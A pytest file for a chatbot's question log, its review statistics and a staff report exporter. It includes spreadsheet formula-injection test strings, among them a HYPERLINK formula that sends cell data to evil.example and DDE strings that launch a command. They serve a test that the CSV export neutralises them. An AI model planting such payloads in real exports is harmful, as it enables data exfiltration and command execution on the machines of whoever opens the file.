"""Tests of the question log (bot.questionlog.store), its review (bot.questionlog.review) and the staff report
(bot.questionlog.report)."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.engine.answer import Answer, Candidate
from bot.questionlog import report, review
from bot.questionlog.review import (
    LoggedQuestion,
    UnansweredGroup,
    format_stats,
    format_unanswered,
    group_questions,
    read_stats,
)
from bot.questionlog.store import (
    NONE_OF_THESE,
    SCHEMA_VERSION,
    NullQuestionLog,
    QuestionLog,
    hash_asker,
    migrate,
)

DAY = 86400.0
T0 = 1_740_000_000.0  # 2025-02-19T21:20:00Z
ID_RE = re.compile(r"^[A-Za-z0-9_-]{1,16}$")


class Clock:
    """A settable clock for the `clock` parameter."""

    def __init__(self, t: float = T0) -> None:
        self.t = t

    def __call__(self) -> float:
        return self.t


def ans(
    question: str,
    decision: str = "fallback",
    *,
    intent: str | None = None,
    normalized: str | None = None,
    reason: str | None = None,
    score: float = 0.0,
    candidates: tuple[Candidate, ...] = (),
) -> Answer:
    return Answer(
        question=question,
        decision=decision,  # type: ignore[arg-type]
        text="…",
        lang="zh",
        script="simplified",
        intent=intent,
        score=score,
        candidates=candidates,
        normalized=question if normalized is None else normalized,
        reason=reason if reason or decision != "fallback" else "low_score",
    )


def rows(path: Path) -> list[sqlite3.Row]:
    with sqlite3.connect(path) as conn:
        conn.row_factory = sqlite3.Row
        return conn.execute("SELECT * FROM questions ORDER BY rowid").fetchall()


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return tmp_path / "questions.sqlite3"


@pytest.fixture
def qlog(db: Path, clock: Clock) -> Iterator[QuestionLog]:
    log = QuestionLog(db, secret="test-secret", clock=clock)
    log.start()
    yield log
    log.close()


# -- recording ---------------------------------------------------------------------------------


def test_records_answer_clarify_and_fallback(qlog: QuestionLog, db: Path) -> None:
    cands = (Candidate("care_places", "托位", 71.5), Candidate("schools", "学位", 66.0))
    ids = [
        qlog.record(
            chat_type="private",
            user_id=1,
            answer=ans("海珠区有多少托位", "answer", intent="care_places", score=93.456),
        ),
        qlog.record(
            chat_type="group",
            user_id=2,
            answer=ans("学位", "clarify", candidates=cands, score=71.5),
        ),
        qlog.record(
            chat_type="private", user_id=None, answer=ans("天河区的公园", reason="other_place")
        ),
    ]
    assert all(ID_RE.match(i) for i in ids)
    assert len(set(ids)) == 3
    qlog.flush()
    got = rows(db)
    assert [r["id"] for r in got] == ids
    a, c, f = got
    assert (a["decision"], a["intent"], a["score"], a["chat_type"]) == (
        "answer",
        "care_places",
        93.46,
        "private",
    )
    assert a["ts"] == "2025-02-19T21:20:00Z"
    assert (a["lang"], a["script"], a["question"]) == ("zh", "simplified", "海珠区有多少托位")
    assert c["decision"] == "clarify" and c["intent"] is None
    assert json.loads(c["candidates"]) == [
        {"intent": "care_places", "title": "托位", "score": 71.5},
        {"intent": "schools", "title": "学位", "score": 66.0},
    ]
    assert (f["decision"], f["reason"], f["asker"]) == ("fallback", "other_place", None)
    assert a["feedback"] is None and a["chosen_intent"] is None


def test_intent_stored_only_for_answers(qlog: QuestionLog, db: Path) -> None:
    qlog.record(chat_type="private", user_id=1, answer=ans("x", "clarify", intent="stray"))
    qlog.flush()
    assert rows(db)[0]["intent"] is None


def test_record_does_not_wait_for_a_locked_database(qlog: QuestionLog, db: Path) -> None:
    blocker = sqlite3.connect(db, isolation_level=None)
    blocker.execute("BEGIN EXCLUSIVE")
    try:
        started = time.perf_counter()
        for i in range(50):
            qlog.record(chat_type="private", user_id=i, answer=ans(f"q{i}"))
        assert time.perf_counter() - started < 0.5
    finally:
        blocker.execute("COMMIT")
        blocker.close()
    qlog.flush()
    assert len(rows(db)) == 50


# -- identity ----------------------------------------------------------------------------------


def test_asker_is_a_keyed_hash_never_the_raw_id(db: Path, clock: Clock) -> None:
    uid = 987_654_321_987
    log = QuestionLog(db, secret="s1", clock=clock)
    log.start()
    log.record(chat_type="private", user_id=uid, answer=ans("a"))
    log.record(chat_type="private", user_id=uid, answer=ans("b"))
    log.record(chat_type="private", user_id=uid + 1, answer=ans("c"))
    log.close()
    other = QuestionLog(db, secret="s2", clock=clock)
    other.start()
    other.record(chat_type="private", user_id=uid, answer=ans("d"))
    other.close()

    askers = [r["asker"] for r in rows(db)]
    assert askers[0] == askers[1] == hash_asker(b"s1", uid)
    assert re.fullmatch(r"[0-9a-f]{16}", askers[0])
    assert askers[2] != askers[0]  # different user
    assert askers[3] != askers[0]  # same user, different secret
    blob = b"".join(p.read_bytes() for p in db.parent.iterdir() if p.name.startswith(db.name))
    assert str(uid).encode() not in blob
    assert uid.to_bytes(6, "big") not in blob  # not stored as an integer either


def test_missing_secret_warns_and_still_hashes(
    db: Path, clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="bot.questionlog.store"):
        log = QuestionLog(db, secret=None, clock=clock)
    assert any("per-process secret" in r.getMessage() for r in caplog.records)
    log.start()
    log.record(chat_type="private", user_id=42, answer=ans("a"))
    log.record(chat_type="private", user_id=42, answer=ans("b"))
    log.close()
    a, b = (r["asker"] for r in rows(db))
    assert a == b and re.fullmatch(r"[0-9a-f]{16}", a)


# -- choice and feedback -------------------------------------------------------------------------


def test_choice_and_feedback_go_to_the_right_record(qlog: QuestionLog, db: Path) -> None:
    offered = (Candidate("schools", "学校", 60.0), Candidate("care", "托育", 58.0))
    first = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    forged = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    none = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    second = qlog.record(chat_type="private", user_id=1, answer=ans("托位", "answer", intent="c"))
    third = qlog.record(chat_type="private", user_id=2, answer=ans("公园", "answer", intent="p"))
    qlog.record_choice(first, "schools")
    qlog.record_choice(forged, "parks")  # never offered: a forged button records nothing
    qlog.record_choice(none, NONE_OF_THESE)
    qlog.record_feedback(second, True)
    qlog.record_feedback(third, True)
    qlog.record_feedback(third, False)  # last click wins
    qlog.record_feedback("no-such-id", True)  # harmless
    qlog.flush()
    by_id = {r["id"]: r for r in rows(db)}
    assert len(by_id) == 5
    assert by_id[forged]["chosen_intent"] is None
    assert by_id[none]["chosen_intent"] == NONE_OF_THESE
    assert by_id[first]["chosen_intent"] == "schools" and by_id[first]["feedback"] is None
    assert by_id[second]["feedback"] == 1 and by_id[second]["chosen_intent"] is None
    assert by_id[third]["feedback"] == 0


# -- unanswered ----------------------------------------------------------------------------------


def fill_unanswered(log: QuestionLog, clock: Clock) -> None:
    clock.t = T0 - 10 * DAY  # outside a 7-day window
    log.record(chat_type="private", user_id=9, answer=ans("我的社保怎么查", reason="personal"))
    clock.t = T0 - 2 * DAY
    for q in ("海珠区有多少个公园", "海珠区有多少个公园", "海珠区有多少公园"):
        log.record(chat_type="private", user_id=1, answer=ans(q))
    clock.t = T0 - DAY
    log.record(chat_type="group", user_id=2, answer=ans("海珠区一共有多少个公园", "clarify"))
    metro = "地铁11号线什么时候开通"
    log.record(chat_type="private", user_id=3, answer=ans(metro, normalized=metro))
    clock.t = T0
    log.record(
        chat_type="private", user_id=4, answer=ans("地铁十一号线什么时候开通", normalized=metro)
    )
    # answered questions never show up, even with the same text
    log.record(
        chat_type="private", user_id=5, answer=ans("海珠区有多少个公园", "answer", intent="p")
    )
    log.flush()


def test_unanswered_groups_similar_questions(qlog: QuestionLog, clock: Clock) -> None:
    fill_unanswered(qlog, clock)
    groups = review.unanswered_in(qlog, days=7)
    assert [g.count for g in groups] == [4, 2]
    parks, metro = groups
    assert parks.question == "海珠区有多少个公园"  # the most frequent wording
    assert set(parks.variants) == {"海珠区有多少公园", "海珠区一共有多少个公园"}
    assert parks.decisions == {"fallback": 3, "clarify": 1}
    assert parks.reasons == {"low_score": 3}
    assert parks.last_seen == "2025-02-18T21:20:00Z"
    assert metro.question == "地铁十一号线什么时候开通"  # tie: most recent wording first
    assert metro.variants == ("地铁11号线什么时候开通",)
    assert metro.last_seen == "2025-02-19T21:20:00Z"
    assert all("社保" not in g.question for g in groups)


def test_unanswered_days_window_and_limit(qlog: QuestionLog, clock: Clock) -> None:
    fill_unanswered(qlog, clock)
    assert [g.count for g in review.unanswered_in(qlog, days=30)] == [4, 2, 1]
    assert review.unanswered_in(qlog, days=30)[2].reasons == {"personal": 1}
    assert [g.count for g in review.unanswered_in(qlog, days=30, limit=1)] == [4]
    assert [g.count for g in review.unanswered_in(qlog, days=0.5)] == [
        1
    ]  # only the latest metro question


def test_unanswered_shows_clarify_choices(qlog: QuestionLog) -> None:
    offered = (Candidate("schools", "学校", 60.0),)
    rid = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    qlog.record_choice(rid, "schools")
    qlog.flush()
    (group,) = review.unanswered_in(qlog)
    assert group.chosen == {"schools": 1}
    assert "picked: schools 1" in format_unanswered([group], 7)


# -- stats ---------------------------------------------------------------------------------------


def test_stats_figures(qlog: QuestionLog, clock: Clock) -> None:
    clock.t = T0 - DAY
    a1 = qlog.record(chat_type="private", user_id=1, answer=ans("a", "answer", intent="schools"))
    a2 = qlog.record(chat_type="private", user_id=1, answer=ans("b", "answer", intent="schools"))
    clock.t = T0
    a3 = qlog.record(chat_type="group", user_id=2, answer=ans("c", "answer", intent="parks"))
    for q in ("d", "e"):
        qlog.record(chat_type="private", user_id=3, answer=ans(q, "clarify"))
    for q, why in (("f", "low_score"), ("g", "low_score"), ("h", "other_place")):
        qlog.record(chat_type="group", user_id=4, answer=ans(q, reason=why))
    clock.t = T0 - 30 * DAY
    qlog.record(chat_type="private", user_id=5, answer=ans("old", "answer", intent="old"))
    clock.t = T0
    qlog.record_feedback(a1, True)
    qlog.record_feedback(a2, True)
    qlog.record_feedback(a3, False)
    qlog.flush()

    s = review.stats_of(qlog, days=7)
    assert s.total == 8
    assert (s.overall.answer, s.overall.clarify, s.overall.fallback) == (3, 2, 3)
    assert s.answer_rate == pytest.approx(3 / 8)
    assert s.fallback_rate == pytest.approx(3 / 8)
    assert (s.overall.helpful, s.overall.unhelpful) == (2, 1)
    assert s.unhelpful_rate == pytest.approx(1 / 3)
    assert s.top_intents == [("schools", 2), ("parks", 1)]  # by count, not name
    assert s.reasons == {"low_score": 2, "other_place": 1}
    assert s.per_day["2025-02-18"] == 2 and s.per_day["2025-02-19"] == 6
    assert len(s.per_day) == 8 and sum(s.per_day.values()) == 8
    private, group = s.by_chat_type["private"], s.by_chat_type["group"]
    assert (private.total, private.answer, private.clarify, private.helpful) == (4, 2, 2, 2)
    assert (group.total, group.fallback, group.unhelpful) == (4, 3, 1)
    assert review.stats_of(qlog, days=60).total == 9

    text = format_stats(s, 7)
    assert "Questions, last 7 days (UTC days): 8" in text
    assert "answer 3 (37.5%)" in text and "👎 rate 33.3%" in text


def test_stats_and_unanswered_without_a_database(tmp_path: Path) -> None:
    s = read_stats(tmp_path / "none.sqlite3", days=7, now=T0)
    assert s.total == 0 and s.answer_rate is None and s.unhelpful_rate is None
    assert "Questions, last 7 days (UTC days): 0" in format_stats(s, 7)
    assert format_unanswered([], 7) == "No unanswered questions in the last 7 days."


# -- retention -----------------------------------------------------------------------------------


def test_purge_removes_rows_past_retention(qlog: QuestionLog, db: Path, clock: Clock) -> None:
    qlog.record(chat_type="private", user_id=1, answer=ans("old"))
    clock.t = T0 + 89 * DAY
    qlog.record(chat_type="private", user_id=1, answer=ans("recent"))
    qlog.flush()
    assert qlog.purge() == 0
    clock.t = T0 + 91 * DAY
    assert qlog.purge() == 1
    assert [r["question"] for r in rows(db)] == ["recent"]


def test_writer_purges_daily_and_start_purges(db: Path, clock: Clock) -> None:
    log = QuestionLog(db, secret="s", retention_days=10, clock=clock)
    log.start()
    log.record(chat_type="private", user_id=1, answer=ans("day 0"))
    clock.t = T0 + 5 * DAY
    log.record(chat_type="private", user_id=1, answer=ans("day 5"))
    log.flush()
    assert len(rows(db)) == 2
    clock.t = T0 + 11 * DAY  # a day has passed since the last purge: the writer purges
    log.record(chat_type="private", user_id=1, answer=ans("day 11"))
    log.flush()
    log.flush()  # the purge runs after the batch that carried the flush marker
    assert [r["question"] for r in rows(db)] == ["day 5", "day 11"]
    log.close()

    clock.t = T0 + 16 * DAY
    again = QuestionLog(db, secret="s", retention_days=10, clock=clock)
    again.start()  # purges at start
    again.close()
    assert [r["question"] for r in rows(db)] == ["day 11"]


# -- failures ------------------------------------------------------------------------------------


def test_unwritable_path_degrades_without_raising(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    log = QuestionLog(blocker / "questions.sqlite3", secret="s")
    with caplog.at_level(logging.ERROR, logger="bot.questionlog.store"):
        log.start()
    assert any(r.levelno == logging.ERROR for r in caplog.records)
    rid = log.record(chat_type="private", user_id=1, answer=ans("q"))
    assert ID_RE.match(rid)
    log.record_choice(rid, "x")
    log.record_feedback(rid, True)
    started = time.perf_counter()
    log.flush(timeout=2)
    assert time.perf_counter() - started < 1
    assert review.unanswered_in(log) == [] and review.stats_of(log).total == 0 and log.purge() == 0
    log.close()


def test_write_failure_is_logged_and_writer_survives(
    qlog: QuestionLog, db: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with sqlite3.connect(db) as conn:
        conn.execute("ALTER TABLE questions RENAME TO questions_away")
    with caplog.at_level(logging.ERROR, logger="bot.questionlog.store"):
        rid = qlog.record(chat_type="private", user_id=1, answer=ans("lost"))
        qlog.flush()
    assert ID_RE.match(rid)
    assert any("write failed" in r.getMessage() for r in caplog.records)
    with sqlite3.connect(db) as conn:
        conn.execute("ALTER TABLE questions_away RENAME TO questions")
    qlog.record(chat_type="private", user_id=1, answer=ans("kept"))
    qlog.flush()
    assert [r["question"] for r in rows(db)] == ["kept"]


def test_newer_schema_is_left_alone(db: Path, caplog: pytest.LogCaptureFixture) -> None:
    with sqlite3.connect(db) as conn:
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    log = QuestionLog(db, secret="s")
    with caplog.at_level(logging.ERROR, logger="bot.questionlog.store"):
        log.start()
    assert any("newer" in r.getMessage() for r in caplog.records)
    log.record(chat_type="private", user_id=1, answer=ans("q"))
    log.close()
    with sqlite3.connect(db) as conn:
        tables = conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    assert tables == []


# -- concurrency and migration -------------------------------------------------------------------


def test_concurrent_recording_from_many_threads(qlog: QuestionLog, db: Path) -> None:
    ids: list[str] = []
    lock = threading.Lock()
    barrier = threading.Barrier(16)

    def worker(n: int) -> None:
        barrier.wait()
        for i in range(50):
            rid = qlog.record(chat_type="group", user_id=n, answer=ans(f"q{n}-{i}"))
            qlog.record_feedback(rid, i % 2 == 0)
            with lock:
                ids.append(rid)

    threads = [threading.Thread(target=worker, args=(n,)) for n in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    qlog.flush()
    got = rows(db)
    assert len(got) == 800 == len(set(ids))
    assert {r["id"] for r in got} == set(ids)
    assert sum(r["feedback"] for r in got) == 400


async def test_concurrent_recording_from_asyncio_tasks(qlog: QuestionLog, db: Path) -> None:
    import asyncio

    async def handler(i: int) -> str:
        await asyncio.sleep(0)
        return qlog.record(chat_type="private", user_id=i, answer=ans(f"q{i}"))

    ids = await asyncio.gather(*(handler(i) for i in range(200)))
    qlog.flush()
    assert {r["id"] for r in rows(db)} == set(ids)


def test_migration_is_idempotent(db: Path, clock: Clock) -> None:
    log = QuestionLog(db, secret="s", clock=clock)
    log.start()
    log.start()  # a second start on the same object is a no-op
    log.record(chat_type="private", user_id=1, answer=ans("kept"))
    log.close()
    again = QuestionLog(db, secret="s", clock=clock)
    again.start()
    again.record(chat_type="private", user_id=1, answer=ans("also"))
    again.close()
    with sqlite3.connect(db, isolation_level=None) as conn:
        assert migrate(conn) == SCHEMA_VERSION
        assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        indexes = {r[1] for r in conn.execute("PRAGMA index_list(questions)")}
    assert {"questions_ts", "questions_decision"} <= indexes
    assert [r["question"] for r in rows(db)] == ["kept", "also"]


def test_null_question_log_does_nothing(tmp_path: Path) -> None:
    log = NullQuestionLog()
    log.start()
    rid = log.record(chat_type="private", user_id=1, answer=ans("q"))
    log.record_choice(rid, "x")
    log.record_feedback(rid, False)
    log.flush()
    assert ID_RE.match(rid)
    assert review.unanswered_in(log) == [] and review.stats_of(log).total == 0 and log.purge() == 0
    log.close()
    assert list(tmp_path.iterdir()) == []


# -- formatting ----------------------------------------------------------------------------------


def utf16(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def make_group(i: int, text: str) -> UnansweredGroup:
    return UnansweredGroup(
        question=text,
        normalized=text,
        count=300 - i,
        decisions={"fallback": 300 - i},
        reasons={"low_score": 300 - i},
        chosen={},
        variants=(text + "?", text + "吗"),
        last_seen="2025-02-19T21:20:00Z",
    )


def test_format_unanswered_fits_telegram() -> None:
    groups = [make_group(i, f"问题{i} " + "海珠区的公园" * 60) for i in range(300)]
    text = format_unanswered(groups, 7)
    assert utf16(text) <= 4000
    shown = len(re.findall(r"^\d+\. ", text, flags=re.M))
    assert 0 < shown < 300
    assert text.endswith(f"… and {300 - shown} more")
    assert "<" not in text and "*" not in text  # plain text, no markup
    assert len(format_unanswered(groups, 7, max_chars=None)) > 4000


def test_format_unanswered_small_list_is_complete() -> None:
    text = format_unanswered([make_group(0, "海珠区有多少个公园")], 7)
    assert text.startswith("Unanswered questions, last 7 days")
    assert "1. 海珠区有多少个公园 ×300" in text and "more" not in text


def test_format_stats_fits_telegram(qlog: QuestionLog) -> None:
    for i in range(300):
        qlog.record(chat_type=f"chat-type-{i}-" + "x" * 40, user_id=i, answer=ans(f"q{i}"))
    qlog.flush()
    text = format_stats(review.stats_of(qlog, days=90), 90)
    assert utf16(text) <= 4000
    assert re.search(r"… and \d+ more$", text)


# -- report CLI ----------------------------------------------------------------------------------


@pytest.fixture
def report_db(db: Path) -> Path:
    now = time.time()
    clock = Clock(now - 10 * DAY)
    log = QuestionLog(db, secret="s", clock=clock)
    log.start()
    log.record(chat_type="private", user_id=1, answer=ans("旧问题"))
    clock.t = now - 60
    log.record(chat_type="private", user_id=1, answer=ans("海珠区有多少个公园"))
    log.record(chat_type="group", user_id=2, answer=ans("海珠区有多少公园", "clarify"))
    rid = log.record(chat_type="private", user_id=3, answer=ans("托位", "answer", intent="care"))
    log.record_feedback(rid, True)
    log.record(chat_type="private", user_id=4, answer=ans("天河区", reason="other_place"))
    log.close()
    return db


def test_report_json(report_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--db", str(report_db), "--format", "json", "--since", "7d"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["stats"]["total"] == 4 and doc["stats"]["helpful"] == 1
    assert doc["stats"]["top_intents"] == [{"intent": "care", "count": 1}]
    assert [g["count"] for g in doc["groups"]] == [2, 1]
    assert {q["question"] for q in doc["questions"]} == {
        "海珠区有多少个公园",
        "海珠区有多少公园",
        "天河区",
    }
    park = next(q for q in doc["questions"] if q["decision"] == "clarify")
    assert (park["group"], park["group_size"]) == (1, 2)
    assert "asker" not in json.dumps(doc)


def test_report_csv_and_since(report_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--db", str(report_db), "--format", "csv", "--since", "30d"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(table) == 4  # the 10-day-old question is inside 30 days
    assert set(table[0]) == set(report.CSV_FIELDS)
    groups = {r["question"]: (r["group"], r["group_size"]) for r in table}
    assert groups["海珠区有多少个公园"] == groups["海珠区有多少公园"] == ("1", "2")
    assert groups["天河区"][1] == groups["旧问题"][1] == "1"
    other = next(r for r in table if r["question"] == "天河区")
    assert (other["decision"], other["reason"], other["normalized"]) == (
        "fallback",
        "other_place",
        "天河区",
    )
    assert report.main(["--db", str(report_db), "--format", "csv", "--since", "24h"]) == 0
    assert len(list(csv.DictReader(io.StringIO(capsys.readouterr().out)))) == 3


def test_report_text(report_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--db", str(report_db)]) == 0
    out = capsys.readouterr().out
    assert "Questions, last 7 days (UTC days): 4" in out
    assert "1. 海珠区有多少个公园 ×2" in out
    assert "All unanswered questions (3)" in out
    assert "fallback/other_place" in out and "旧问题" not in out


def test_report_errors(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert report.main(["--db", str(tmp_path / "missing.sqlite3")]) == 1
    assert "no question log" in capsys.readouterr().err
    assert report.main(["--since", "seven days"]) == 2
    monkeypatch.setenv("BOT_DB", str(tmp_path / "from-env.sqlite3"))
    assert report.main([]) == 1
    assert "from-env.sqlite3" in capsys.readouterr().err


@pytest.mark.parametrize(("text", "days"), [("7d", 7.0), ("24h", 1.0), ("30d", 30.0), ("2w", 14.0)])
def test_parse_since(text: str, days: float) -> None:
    assert report.parse_since(text) == pytest.approx(days)


def test_logged_question_has_no_asker_field() -> None:
    assert "asker" not in LoggedQuestion.__dataclass_fields__


# -- bounded grouping, CSV safety, --db off ------------------------------------------------------


def logged(i: int, text: str, *, ts: str = "2025-02-19T21:20:00Z") -> LoggedQuestion:
    return LoggedQuestion(
        id=f"id{i}",
        ts=ts,
        chat_type="private",
        question=text,
        normalized=text,
        decision="fallback",
        intent=None,
        score=0.0,
        reason="low_score",
        candidates=(),
        chosen_intent=None,
        feedback=None,
    )


def distinct_questions(n: int) -> list[str]:
    """n different questions, all starting alike (the worst case for a first-character bucket)."""
    import random

    rng = random.Random(7)
    words = ["公园", "学位", "托位", "地铁", "医院", "社保", "图书馆", "停车", "垃圾", "旧改"]
    words += ["绿道", "体育馆", "就业", "补贴", "养老"]
    out = []
    for i in range(n):
        picked = "".join(rng.sample(words, 3))
        out.append(f"海珠区{picked}怎么样{i}")
    return out


def test_ten_thousand_distinct_questions_group_in_well_under_a_second() -> None:
    """Before: every wording was compared with every group (quadratic): 10,000 took ~12 s."""
    texts = distinct_questions(10_000)
    rows = [logged(i, t) for i, t in enumerate(texts)]
    # a few near-duplicates of one question, recent and frequent: they must still be grouped
    rows += [logged(20_000 + i, "海珠区有多少个公园") for i in range(3)]
    rows += [logged(30_000 + i, "海珠区有多少公园") for i in range(2)]
    started = time.perf_counter()
    groups = group_questions(rows)
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0, f"grouping 10,000 questions took {elapsed:.2f} s"
    assert groups[0].count == 5 and groups[0].question == "海珠区有多少个公园"
    assert sum(g.count for g in groups) == len(rows)  # every row is in exactly one group
    assert len({i for g in groups for i in g.ids}) == len(rows)
    started = time.perf_counter()
    assert group_questions(rows, limit=20) == groups[:20]  # what /unanswered asks for
    assert time.perf_counter() - started < 1.0


def test_grouping_beyond_the_bound_keeps_identical_wordings_together() -> None:
    from bot.questionlog import review as logreview

    texts = distinct_questions(logreview.MAX_CLUSTER_KEYS + 50)
    rows = [logged(i, t) for i, t in enumerate(texts)]
    old = "海珠区很久以前问过的问题"
    rows += [logged(90_000, old, ts="2025-01-01T00:00:00Z")]
    rows += [logged(90_001, old, ts="2025-01-01T00:00:00Z")]
    groups = group_questions(rows)
    [twice] = [g for g in groups if g.question == old]
    assert twice.count == 2


@pytest.fixture
def hostile_db(db: Path) -> Path:
    log = QuestionLog(db, secret="s", clock=Clock(time.time() - 60))
    log.start()
    for text in HOSTILE_CELLS:
        log.record(chat_type="private", user_id=1, answer=ans(text, normalized=text))
    log.record(chat_type="private", user_id=1, answer=ans("海珠区有多少公园"))
    log.close()
    return db


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_report_csv_neutralises_formulas(hostile_db: Path, capsys: pytest.CaptureFixture[str]):
    assert report.main(["--db", str(hostile_db), "--format", "csv"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = {r["question"] for r in table}
    assert cells == {"'" + text for text in HOSTILE_CELLS} | {"海珠区有多少公园"}
    for row in table:
        for key, value in row.items():
            if key != "id":
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # our own record ids go out as they are, "-" first or not: they join back to the log
    with sqlite3.connect(hostile_db) as conn:
        ids = {row[0] for row in conn.execute("SELECT id FROM questions")}
        conn.execute("UPDATE questions SET id = '-dash-id' WHERE question = '海珠区有多少公园'")
    assert report.main(["--db", str(hostile_db), "--format", "csv"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert "-dash-id" in {r["id"] for r in table} and len(ids) == len(table)
    assert report.csv_cell(3) == 3 and report.csv_cell("a=b") == "a=b"
    assert report.csv_cell("-") == "'-" and report.csv_cell("") == ""


@pytest.mark.parametrize("off", ["off", "OFF", "Off", "none", "no", "false", "0", " off "])
def test_report_db_accepts_every_off_spelling(
    off: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / off).write_text("not a database")  # even if such a file happens to exist
    assert report.main(["--db", off]) == 1
    assert "disabled" in capsys.readouterr().err
    monkeypatch.setenv("BOT_DB", off)
    assert report.main([]) == 1
    assert "disabled" in capsys.readouterr().err


def _bot(*args: str) -> subprocess.CompletedProcess[str]:
    """`python -m bot ...` as a person types it."""
    root = Path(__file__).resolve().parent.parent
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        cwd=root,
        timeout=120,
        check=False,
    )


def test_report_runs_as_the_readme_writes_it(report_db: Path) -> None:
    out = _bot("report", "--since", "7d", "--format", "json", "--db", str(report_db))
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["stats"]["total"] == 4
    rows = list(
        csv.DictReader(
            io.StringIO(_bot("report", "--db", str(report_db), "--format", "csv").stdout)
        )
    )
    assert {r["question"] for r in rows} >= {"海珠区有多少个公园", "天河区"}
    text = _bot("report", "--db", str(report_db))
    assert text.returncode == 0 and "unanswered" in text.stdout.lower()
    for flag in ("--help", "-h"):
        usage = _bot("report", flag)
        assert usage.returncode == 0 and "--since" in usage.stdout and "--format" in usage.stdout
    bad = _bot("report", "--since", "seven days")
    assert bad.returncode == 2 and "expected e.g. 7d" in bad.stderr


def test_report_without_a_log_says_why(tmp_path: Path) -> None:
    out = _bot("report", "--db", str(tmp_path / "none.sqlite3"))
    assert out.returncode == 1
    assert "console commands" in out.stderr and "TELEGRAM_BOT_TOKEN" in out.stderr


def test_the_log_is_bounded_per_asker_per_text_and_in_rows(db: Path) -> None:
    clock = Clock(T0)
    log = QuestionLog(db, secret="s", clock=clock, max_rows=1000, max_per_asker_day=50)
    log.start()
    flood = "托位" * 2000  # 4,000 characters, as a flooding user sends them
    for _ in range(300):  # one user, far over the day's budget
        log.record(chat_type="private", user_id=7, answer=ans(flood))
    log.record(chat_type="private", user_id=8, answer=ans("另一个人的问题"))  # others still count
    log.flush()
    stored = rows(db)
    flooder = [r for r in stored if r["question"].startswith("托位")]
    assert len(flooder) == 50 and log.over_budget == 250
    assert max(len(r["question"]) for r in stored) <= 600
    assert any(r["question"] == "另一个人的问题" for r in stored)
    clock.t = T0 + DAY  # a new day: the budget starts again
    for user in range(2000):  # many askers: the row cap holds, the oldest go first
        log.record(chat_type="private", user_id=1000 + user, answer=ans(f"q{user}"))
    log.flush()
    log.purge()
    log.close()
    with sqlite3.connect(db) as conn:
        log2 = QuestionLog(db, secret="s", clock=clock, max_rows=1000)
        log2.start()
        log2.close()
        assert conn.execute("SELECT count(*) FROM questions").fetchone()[0] <= 1000
    stats = review.read_stats(db, days=30, now=T0 + DAY)
    assert stats.rows <= 1000 and stats.size_bytes > 0
    assert "Log: " in format_stats(stats, 30)
